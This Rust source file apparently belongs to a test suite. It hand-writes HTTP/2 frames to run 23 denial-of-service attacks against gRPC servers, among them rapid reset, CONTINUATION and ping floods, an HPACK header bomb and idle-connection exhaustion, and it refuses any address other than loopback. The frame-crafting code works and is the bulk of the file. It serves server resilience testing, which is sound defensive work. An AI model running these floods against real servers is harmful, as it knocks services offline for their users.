// SPDX-License-Identifier: Apache-2.0
//! Attackers, to test servers on loopback with.
//!
//! They write HTTP/2 by hand, because no library lets itself be misused like this. Everything blocks and uses the real
//! clock: an attacker is a thread of a test, in another process than the server whose memory is measured. Only loopback
//! addresses are accepted.
#![allow(
    clippy::disallowed_methods,
    reason = "a testing tool: the real clock and real waiting are the point"
)]
#![allow(clippy::wildcard_enum_match_arm, reason = "most attacks differ from the usual in one point only")]

use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

/// The preface of a client's connection.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// More units than any attack needs; the bound of what a fast server lets pass in the time.
const UNITS_MAX: u32 = 400_000;
/// Units that are written at a time.
const BATCH: u32 = 64;
/// Streams of the attacks that use as many as servers allow.
const STREAMS: u32 = 1_975;
/// Streams of the attacks that declare large messages. With more, HTTP/2 ends the connection for its many small frames.
const MESSAGES: u32 = 1_000;
/// The time without a successful write after which an attack counts as throttled.
const STUCK: Duration = Duration::from_millis(200);
/// Connections of the attacks that only connect.
const IDLE_CONNECTIONS: usize = 500;
/// The longest pause of one that waits for something to read.
const IO_TIMEOUT: Duration = Duration::from_secs(10);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xfa;

const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW: u16 = 4;
const WINDOW_MAX: u32 = u32::MAX >> 1;

/// A server on loopback, and two calls that it answers.
#[derive(Debug, Clone)]
pub struct Target {
    /// The address of the server.
    pub address: SocketAddr,
    /// A call with a small answer.
    pub small: Call,
    /// A call with an answer of about 1 MiB.
    pub large: Call,
}

/// A gRPC call with one message.
#[derive(Debug, Clone)]
pub struct Call {
    /// `/package.Service/Method`.
    pub path: String,
    /// The encoded message, without the prefix of gRPC.
    pub message: Vec<u8>,
}

/// Ways to wear a server out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Opens streams and resets them immediately.
    RapidReset,
    /// Makes the server reset streams, by window updates of zero.
    ZeroWindowUpdate,
    /// Makes the server reset streams, by data after their end.
    DataAfterEnd,
    /// Makes the server reset streams, by windows that overflow.
    WindowOverflow,
    /// Sends headers that never end, in empty pieces.
    ContinuationFlood,
    /// Sends pings and reads the answers.
    PingFlood,
    /// Sends pings and reads nothing.
    PingFloodUnread,
    /// Sends settings and reads nothing.
    SettingsFlood,
    /// Sends data without bytes.
    EmptyData,
    /// Sends priorities.
    PriorityFlood,
    /// Sends window updates for the connection, one byte each.
    WindowUpdateFlood,
    /// Sends frames of an unknown type.
    UnknownFlood,
    /// Opens streams and never ends their requests.
    UnfinishedStreams,
    /// Opens streams whose messages lack their end.
    UnfinishedMessages,
    /// Sends more than the windows allow, on streams whose messages lack their end.
    WindowsIgnored,
    /// Connects and sends nothing, many times.
    NoPreface,
    /// Connects, begins HTTP/2 and does nothing, many times.
    Idle,
    /// Asks for large answers with a window of zero.
    AnswersWithoutWindow,
    /// Asks for large answers with the largest windows, and reads nothing.
    AnswersUnread,
    /// Sends headers that unpack to four thousand times their size.
    HeaderBomb,
    /// Sends headers larger than any server takes.
    LargeHeaders,
    /// Declares messages of 4 GiB.
    HugeMessages,
    /// Speaks HTTP/1.
    OtherProtocol,
}

/// The end of an attack.
#[derive(Debug, Clone)]
pub struct Report {
    /// Units that were written: frames, or small groups of them.
    pub units: u32,
    /// The duration of the attack.
    pub took: Duration,
    /// The reaction of the server.
    pub outcome: Outcome,
}

/// The reaction of a server to an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// It sent GOAWAY and closed.
    GoAway {
        /// The code of HTTP/2.
        code: u32,
        /// The text of the GOAWAY.
        reason: String,
    },
    /// It closed without a word that was heard.
    Closed,
    /// It takes nothing more.
    Throttled,
    /// It goes on.
    Open {
        /// Streams that it reset.
        resets: u32,
        /// Answers that it began.
        answers: u32,
        /// Connections that were open at the end.
        connections: usize,
    },
}

/// A connection on which every byte is the caller's.
#[derive(Debug)]
pub struct Raw {
    stream: Stream,
    unread: Vec<u8>,
    unwritten: Vec<u8>,
    /// Answers SETTINGS and PING, as every client must.
    acknowledges: bool,
    go_away: Option<(u32, String)>,
    resets: u32,
    answers: u32,
    next_stream: u32,
    /// Bytes of DATA that the server lets us send, in all and for each stream by position.
    window: i64,
    windows: Vec<i64>,
}

/// A client that behaves.
#[derive(Debug)]
pub struct Client {
    raw: Raw,
}

/// The header of a frame and what it carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// The kind, as RFC 9113 numbers it.
    pub kind: u8,
    /// The flags.
    pub flags: u8,
    /// The stream, zero for the connection.
    pub stream: u32,
    /// The payload.
    pub payload: Vec<u8>,
}

#[derive(Debug)]
enum Stream {
    Tcp(TcpStream),
    Unix(UnixStream),
}

// === impl Attack ===

impl Attack {
    /// All attacks.
    pub const ALL: [Self; 23] = [
        Self::RapidReset,
        Self::ZeroWindowUpdate,
        Self::DataAfterEnd,
        Self::WindowOverflow,
        Self::ContinuationFlood,
        Self::PingFlood,
        Self::PingFloodUnread,
        Self::SettingsFlood,
        Self::EmptyData,
        Self::PriorityFlood,
        Self::WindowUpdateFlood,
        Self::UnknownFlood,
        Self::UnfinishedStreams,
        Self::UnfinishedMessages,
        Self::WindowsIgnored,
        Self::NoPreface,
        Self::Idle,
        Self::AnswersWithoutWindow,
        Self::AnswersUnread,
        Self::HeaderBomb,
        Self::LargeHeaders,
        Self::HugeMessages,
        Self::OtherProtocol,
    ];

    /// Attacks `target` until it has had enough, or for `duration`. Fails if the first connection does.
    pub fn run(self, target: &Target, duration: Duration) -> io::Result<Report> {
        let until = Instant::now() + duration;
        match self {
            Self::NoPreface | Self::Idle => return self.sit(target, until),
            Self::OtherProtocol => {
                let mut raw = Raw::connect(target.address)?;
                raw.write(b"GET / HTTP/1.1\r\nhost: localhost\r\nconnection: keep-alive\r\n\r\n");
                return Ok(raw.flood(until, true, 0, |_, _| {}));
            }
            _ => {}
        }
        let mut raw = Raw::connect(target.address)?;
        let window = match self {
            Self::AnswersWithoutWindow => 0,
            Self::AnswersUnread => WINDOW_MAX,
            _ => 65_535,
        };
        raw.begin(&[(INITIAL_WINDOW, window)]);
        if self == Self::AnswersUnread {
            raw.frame(WINDOW_UPDATE, 0, 0, &(WINDOW_MAX - 65_535).to_be_bytes());
        }
        if self == Self::ContinuationFlood {
            // The answer to the server's SETTINGS would stand between the pieces of the headers, which is another fault.
            raw.acknowledge_nothing();
        }
        if matches!(self, Self::ContinuationFlood | Self::EmptyData) {
            let flags = if self == Self::EmptyData { END_HEADERS } else { 0 };
            raw.frame(HEADERS, flags, 1, &target.small.headers());
        }
        let reads = !matches!(self, Self::PingFloodUnread | Self::SettingsFlood | Self::AnswersUnread);
        let units = self.units();
        let small = target.small.headers();
        Ok(raw.flood(until, reads, units, |raw, unit| self.unit(raw, unit, target, &small)))
    }

    /// The number of repetitions of the attack. Answers are asked for as often as a connection has streams.
    fn units(self) -> u32 {
        match self {
            Self::AnswersWithoutWindow | Self::AnswersUnread => STREAMS,
            Self::HugeMessages => MESSAGES,
            Self::HeaderBomb | Self::LargeHeaders => 2_000,
            _ => UNITS_MAX,
        }
    }

    fn unit(self, raw: &mut Raw, unit: u32, target: &Target, small: &[u8]) {
        let open = END_HEADERS;
        let whole = END_HEADERS | END_STREAM;
        match self {
            Self::RapidReset => {
                let stream = raw.open(open, small);
                raw.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::ZeroWindowUpdate => {
                let stream = raw.open(open, small);
                raw.frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Self::DataAfterEnd => {
                let stream = raw.open(whole, small);
                raw.frame(DATA, 0, stream, &[0; 8]);
            }
            Self::WindowOverflow => {
                let stream = raw.open(open, small);
                raw.frame(WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes());
            }
            Self::ContinuationFlood => raw.frame(CONTINUATION, 0, 1, &[]),
            Self::PingFlood | Self::PingFloodUnread => raw.frame(PING, 0, 0, &u64::from(unit).to_be_bytes()),
            Self::SettingsFlood => raw.frame(SETTINGS, 0, 0, &[]),
            Self::EmptyData => raw.frame(DATA, 0, 1, &[]),
            Self::PriorityFlood => raw.frame(PRIORITY, 0, 2 * unit + 1, &[0, 0, 0, 0, 16]),
            Self::WindowUpdateFlood => raw.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::UnknownFlood => raw.frame(UNKNOWN, 0, 0, &[0; 16]),
            Self::UnfinishedStreams => {
                raw.open(open, small);
            }
            Self::UnfinishedMessages => {
                if unit < MESSAGES {
                    let stream = raw.open(open, small);
                    // 4 MiB, which is what servers take by default.
                    raw.frame(DATA, 0, stream, &[0, 0, 0x3f, 0xff, 0xfb]);
                    raw.window -= 5;
                } else {
                    raw.fill(2 * (unit % MESSAGES) + 1);
                }
            }
            Self::WindowsIgnored => {
                let stream = raw.open(open, small);
                let mut piece = vec![0, 0, 0x3f, 0xff, 0xfb];
                piece.resize(16_000, 7);
                raw.frame(DATA, 0, stream, &piece);
            }
            Self::HugeMessages => {
                let stream = raw.open(open, small);
                raw.frame(DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3]);
            }
            Self::AnswersWithoutWindow | Self::AnswersUnread => {
                raw.call(&target.large);
            }
            Self::HeaderBomb => {
                let mut block = target.small.headers();
                // One entry that fills the table, and references to it: 0xbe is the newest entry.
                block.push(0x40);
                literal(&mut block, b"bomb");
                literal(&mut block, &[b'x'; 4_000]);
                block.resize(16_000, 0xbe);
                raw.open(whole, &block);
            }
            Self::LargeHeaders => {
                let mut block = target.small.headers();
                for _ in 0..20 {
                    block.push(0);
                    literal(&mut block, b"large");
                    literal(&mut block, &[b'x'; 3_000]);
                }
                let (first, rest) = block.split_at(16_000);
                let stream = raw.open(END_STREAM, first);
                let mut pieces = rest.chunks(16_000).peekable();
                while let Some(piece) = pieces.next() {
                    let flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
                    raw.frame(CONTINUATION, flags, stream, piece);
                }
            }
            Self::NoPreface | Self::Idle | Self::OtherProtocol => {}
        }
    }

    /// Opens many connections and waits.
    fn sit(self, target: &Target, until: Instant) -> io::Result<Report> {
        let begun = Instant::now();
        let mut raws = Vec::with_capacity(IDLE_CONNECTIONS);
        for _ in 0..IDLE_CONNECTIONS {
            let mut raw = Raw::connect(target.address)?;
            if self == Self::Idle {
                raw.begin(&[]);
            }
            raws.push(raw);
        }
        let units = u32::try_from(raws.len()).unwrap_or(u32::MAX);
        while Instant::now() < until && !raws.is_empty() {
            // A silent attacker does not answer either.
            raws.retain_mut(|raw| raw.pull().is_ok() && (self == Self::NoPreface || raw.push().is_ok()));
            std::thread::sleep(Duration::from_millis(10));
        }
        let connections = raws.len();
        let outcome = match connections {
            0 => Outcome::Closed,
            _ => Outcome::Open { resets: 0, answers: 0, connections },
        };
        Ok(Report { units, took: begun.elapsed(), outcome })
    }
}

// === impl Call ===

impl Call {
    /// The headers, packed without state.
    pub fn headers(&self) -> Vec<u8> {
        let mut block = Vec::with_capacity(256);
        for (name, value) in [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.path.as_str()),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ] {
            block.push(0);
            literal(&mut block, name.as_bytes());
            literal(&mut block, value.as_bytes());
        }
        block
    }

    /// The message with its prefix.
    fn body(&self) -> Vec<u8> {
        let length = u32::try_from(self.message.len()).expect("test messages are small");
        [&[0], &length.to_be_bytes()[..], &self.message].concat()
    }
}

// === impl Raw ===

impl Raw {
    /// Connects and sends nothing. Waits for nothing from then on.
    pub fn connect(address: SocketAddr) -> io::Result<Self> {
        Self::on(tcp(address)?)
    }

    /// As [`Raw::connect`], from an address of our own, such as 127.0.0.2.
    pub fn connect_from(source: IpAddr, address: SocketAddr) -> io::Result<Self> {
        Self::on(tcp_from(source, address)?)
    }

    fn on(stream: TcpStream) -> io::Result<Self> {
        stream.set_nonblocking(true)?;
        Ok(Self::new(Stream::Tcp(stream)))
    }

    fn new(stream: Stream) -> Self {
        Self {
            stream,
            unread: Vec::new(),
            unwritten: Vec::new(),
            acknowledges: true,
            go_away: None,
            resets: 0,
            answers: 0,
            next_stream: 1,
            window: 65_535,
            windows: Vec::new(),
        }
    }

    /// Begins HTTP/2 with `settings`.
    pub fn begin(&mut self, settings: &[(u16, u32)]) {
        self.write(PREFACE);
        let mut payload = Vec::new();
        for (name, value) in settings {
            payload.extend(name.to_be_bytes());
            payload.extend(value.to_be_bytes());
        }
        self.frame(SETTINGS, 0, 0, &payload);
    }

    /// Answers no more SETTINGS and PING from now on: the caller may, or not.
    pub fn acknowledge_nothing(&mut self) {
        self.acknowledges = false;
    }

    /// Writes bytes, at the next push.
    pub fn write(&mut self, bytes: &[u8]) {
        self.unwritten.extend_from_slice(bytes);
    }

    /// Writes a frame, at the next push.
    pub fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let length = u32::try_from(payload.len()).expect("frames are small").to_be_bytes();
        self.write(&length[1..]);
        self.write(&[kind, flags]);
        self.write(&stream.to_be_bytes());
        self.write(payload);
    }

    /// Opens the next stream with a block of headers; returns its number.
    pub fn open(&mut self, flags: u8, block: &[u8]) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        self.windows.push(65_535);
        self.frame(HEADERS, flags, stream, block);
        stream
    }

    /// Sends as much DATA on an open stream as the windows allow, up to one frame.
    pub fn fill(&mut self, stream: u32) {
        let Some(window) = self.windows.get_mut(stream as usize / 2) else { return };
        let bytes = self.window.min(*window).clamp(0, 16_000);
        self.window -= bytes;
        *window -= bytes;
        if bytes > 0 {
            self.frame(DATA, 0, stream, &vec![7; usize::try_from(bytes).expect("it is not negative")]);
        }
    }

    /// Opens the next stream with a whole call; returns its number.
    pub fn call(&mut self, call: &Call) -> u32 {
        let stream = self.open(END_HEADERS, &call.headers());
        let body = call.body();
        let mut pieces = body.chunks(16_000).peekable();
        while let Some(piece) = pieces.next() {
            let flags = if pieces.peek().is_none() { END_STREAM } else { 0 };
            self.frame(DATA, flags, stream, piece);
        }
        stream
    }

    /// Writes what the socket takes; returns whether it took all.
    pub fn push(&mut self) -> io::Result<bool> {
        while !self.unwritten.is_empty() {
            match self.stream.write(&self.unwritten) {
                Ok(written) => drop(self.unwritten.drain(..written)),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(false),
                Err(error) => return Err(error),
            }
        }
        Ok(true)
    }

    /// Reads some of what is there; fails at the end of the connection. Answers settings and pings, as every client must,
    /// unless that is switched off.
    pub fn pull(&mut self) -> io::Result<Vec<Frame>> {
        let mut piece = [0; 16 << 10];
        match self.stream.read(&mut piece) {
            Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(read) => {
                self.unread.extend_from_slice(&piece[..read]);
                Ok(self.take_frames())
            }
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(Vec::new()),
            Err(error) => Err(error),
        }
    }

    /// Returns the code and the reason of the GOAWAY of the server, once it was read.
    pub fn go_away(&self) -> Option<(u32, &str)> {
        self.go_away.as_ref().map(|(code, reason)| (*code, reason.as_str()))
    }

    fn take_frames(&mut self) -> Vec<Frame> {
        let mut frames = Vec::new();
        let mut taken = 0;
        while let Some([a, b, c, kind, flags, stream @ ..]) = self.unread[taken..].first_chunk::<9>().copied()
        {
            let end = taken + 9 + u32::from_be_bytes([0, a, b, c]) as usize;
            let Some(payload) = self.unread.get(taken + 9..end) else { break };
            let payload = payload.to_vec();
            frames.push(Frame { kind, flags, stream: u32::from_be_bytes(stream), payload });
            taken = end;
        }
        self.unread.drain(..taken);
        for frame in &frames {
            self.note(frame);
        }
        frames
    }

    fn note(&mut self, frame: &Frame) {
        match frame.kind {
            SETTINGS if self.acknowledges && frame.flags & ACK == 0 => self.frame(SETTINGS, ACK, 0, &[]),
            PING if self.acknowledges && frame.flags & ACK == 0 => self.frame(PING, ACK, 0, &frame.payload),
            RST_STREAM => self.resets += 1,
            WINDOW_UPDATE => {
                let bytes =
                    frame.payload.first_chunk().map_or(0, |bytes| i64::from(u32::from_be_bytes(*bytes)));
                if frame.stream == 0 {
                    self.window += bytes;
                } else if let Some(window) = self.windows.get_mut(frame.stream as usize / 2) {
                    *window += bytes;
                }
            }
            HEADERS => self.answers += 1,
            GO_AWAY => {
                if let Some((head, reason)) = frame.payload.split_at_checked(8) {
                    let code = head.last_chunk().map_or(0, |code| u32::from_be_bytes(*code));
                    self.go_away = Some((code, String::from_utf8_lossy(reason).into_owned()));
                }
            }
            _ => {}
        }
    }

    /// Repeats `unit` until the server has had enough.
    fn flood(
        mut self,
        until: Instant,
        reads: bool,
        max: u32,
        mut unit: impl FnMut(&mut Self, u32),
    ) -> Report {
        let begun = Instant::now();
        let (mut units, mut moved) = (0, begun);
        let broken = loop {
            if self.unwritten.is_empty() && units < max {
                for _ in 0..BATCH.min(max - units) {
                    unit(&mut self, units);
                    units += 1;
                }
            }
            let before = self.unwritten.len();
            let pushed = self.push();
            let now = Instant::now();
            if self.unwritten.len() < before || self.unwritten.is_empty() {
                moved = now;
            }
            let pulled = if reads { self.pull().map(drop) } else { Ok(()) };
            match (pushed, pulled) {
                (Ok(all), Ok(())) => {
                    if now >= until {
                        break false;
                    }
                    if !all || units >= max {
                        std::thread::sleep(Duration::from_millis(1));
                    }
                }
                _ => break true,
            }
        };
        // The last words of a server that closed while it was not listened to.
        let ended = broken || !reads;
        let mut before = usize::MAX;
        while ended && self.go_away.is_none() && before != self.unread.len() {
            before = self.unread.len();
            let Ok(frames) = self.pull() else { break };
            if !frames.is_empty() {
                before = usize::MAX;
            }
        }
        let took = begun.elapsed();
        let outcome = match self.go_away.take() {
            Some((code, reason)) => Outcome::GoAway { code, reason },
            None if broken => Outcome::Closed,
            None if moved.elapsed() >= STUCK => Outcome::Throttled,
            None => Outcome::Open { resets: self.resets, answers: self.answers, connections: 1 },
        };
        Report { units, took, outcome }
    }
}

// === impl Client ===

impl Client {
    /// Connects and begins HTTP/2.
    pub fn connect(address: SocketAddr) -> io::Result<Self> {
        Self::on(tcp(address)?)
    }

    /// As [`Client::connect`], from an address of our own, such as 127.0.0.2.
    pub fn connect_from(source: IpAddr, address: SocketAddr) -> io::Result<Self> {
        Self::on(tcp_from(source, address)?)
    }

    fn on(stream: TcpStream) -> io::Result<Self> {
        stream.set_read_timeout(Some(IO_TIMEOUT))?;
        Self::begin(Stream::Tcp(stream))
    }

    /// Connects to a Unix socket and begins HTTP/2.
    pub fn connect_unix(path: &Path) -> io::Result<Self> {
        let stream = UnixStream::connect(path)?;
        stream.set_read_timeout(Some(IO_TIMEOUT))?;
        Self::begin(Stream::Unix(stream))
    }

    fn begin(stream: Stream) -> io::Result<Self> {
        let mut raw = Raw::new(stream);
        raw.begin(&[]);
        raw.push()?;
        Ok(Self { raw })
    }

    /// Calls and waits for the whole answer; returns its bytes, with gRPC's prefixes. A stream that is reset is
    /// [`io::ErrorKind::Other`]; silence of ten seconds is [`io::ErrorKind::TimedOut`].
    pub fn call(&mut self, call: &Call) -> io::Result<Vec<u8>> {
        let stream = self.start(call)?;
        self.finish(stream)
    }

    /// Calls and does not wait; returns the stream.
    pub fn start(&mut self, call: &Call) -> io::Result<u32> {
        let stream = self.raw.call(call);
        self.raw.push()?;
        Ok(stream)
    }

    /// Waits for the whole answer on a stream. Answers on other streams are forgotten.
    pub fn finish(&mut self, stream: u32) -> io::Result<Vec<u8>> {
        self.finish_first(&[stream], 1).map(|mut answers| answers.swap_remove(0))
    }

    /// Waits for the first `count` whole answers on `streams`, whichever they are. Answers on other streams are
    /// forgotten.
    pub fn finish_first(&mut self, streams: &[u32], count: usize) -> io::Result<Vec<Vec<u8>>> {
        let mut bodies = vec![Vec::new(); streams.len()];
        let (mut whole, mut done) = (Vec::new(), vec![false; streams.len()]);
        while whole.len() < count {
            for frame in self.next_frames()? {
                if frame.kind == DATA && !frame.payload.is_empty() {
                    let bytes = u32::try_from(frame.payload.len()).expect("frames are small").to_be_bytes();
                    self.raw.frame(WINDOW_UPDATE, 0, 0, &bytes);
                    self.raw.frame(WINDOW_UPDATE, 0, frame.stream, &bytes);
                }
                let Some(position) = streams.iter().position(|stream| *stream == frame.stream) else {
                    continue;
                };
                if done[position] {
                    // A server may reset what it has answered whole.
                    continue;
                }
                match frame.kind {
                    DATA => bodies[position].extend_from_slice(&frame.payload),
                    RST_STREAM => return Err(io::Error::other("the stream was reset")),
                    _ => {}
                }
                if matches!(frame.kind, DATA | HEADERS) && frame.flags & END_STREAM != 0 {
                    done[position] = true;
                    whole.push(std::mem::take(&mut bodies[position]));
                }
            }
            self.raw.push()?;
        }
        Ok(whole)
    }

    /// Waits for some frames.
    pub fn next_frames(&mut self) -> io::Result<Vec<Frame>> {
        let begun = Instant::now();
        loop {
            let frames = self.raw.pull()?;
            if !frames.is_empty() {
                self.raw.push()?;
                return Ok(frames);
            }
            if begun.elapsed() >= IO_TIMEOUT {
                return Err(io::ErrorKind::TimedOut.into());
            }
        }
    }

    /// Returns the connection, for a client that ceases to behave.
    pub fn raw(&mut self) -> &mut Raw {
        &mut self.raw
    }

    /// Reads until the server ends the connection. Returns whether it sent GOAWAY.
    pub fn wait_for_the_end(&mut self) -> io::Result<bool> {
        loop {
            match self.next_frames() {
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::TimedOut => return Err(error),
                Err(_) => return Ok(self.raw.go_away.is_some()),
            }
        }
    }
}

// === impl Stream ===

impl Read for Stream {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        match self {
            Self::Tcp(stream) => stream.read(buffer),
            Self::Unix(stream) => stream.read(buffer),
        }
    }
}

impl Write for Stream {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        match self {
            Self::Tcp(stream) => stream.write(bytes),
            Self::Unix(stream) => stream.write(bytes),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn tcp(address: SocketAddr) -> io::Result<TcpStream> {
    check(address)?;
    let stream = TcpStream::connect(address)?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

fn tcp_from(source: IpAddr, address: SocketAddr) -> io::Result<TcpStream> {
    check(address)?;
    let socket = Socket::new(Domain::for_address(address), Type::STREAM, None)?;
    socket.bind(&SocketAddr::new(source, 0).into())?;
    socket.connect(&address.into())?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    Ok(stream)
}

fn check(address: SocketAddr) -> io::Result<()> {
    if address.ip().is_loopback() {
        return Ok(());
    }
    Err(io::Error::new(io::ErrorKind::InvalidInput, "attackers are for loopback only"))
}

/// A string of HPACK, without Huffman's code.
fn literal(block: &mut Vec<u8>, text: &[u8]) {
    match u8::try_from(text.len()) {
        Ok(short) if short < 127 => block.push(short),
        _ => {
            block.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                block.push(u8::try_from(rest % 128).expect("less than 128") | 128);
                rest /= 128;
            }
            block.push(u8::try_from(rest).expect("less than 128"));
        }
    }
    block.extend_from_slice(text);
}
